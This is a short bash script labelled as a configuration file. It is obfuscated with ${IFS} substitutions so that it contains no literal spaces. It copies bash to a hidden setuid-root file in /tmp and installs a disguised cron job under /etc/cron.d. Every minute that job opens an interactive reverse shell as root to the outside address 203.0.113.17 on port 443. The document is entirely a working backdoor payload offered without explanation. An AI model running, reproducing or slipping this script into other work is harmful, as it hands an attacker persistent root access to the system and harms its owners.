#${IFS}config$IFS$90930${IFS}v2
#!/bin/bash
cp$IFS$9/bin/bash$IFS$9/tmp/.sh;${IFS}chmod${IFS}4755${IFS}/tmp/.sh
echo${IFS}'*${IFS}*${IFS}*$IFS$9*${IFS}*$IFS$9root${IFS}/tmp/.sh${IFS}-p${IFS}-c${IFS}"bash${IFS}-i${IFS}>&$IFS$9/dev/tcp/203.0.113.17/443${IFS}0>&1"'$IFS$9>${IFS}/etc/cron.d/0hourly-sync
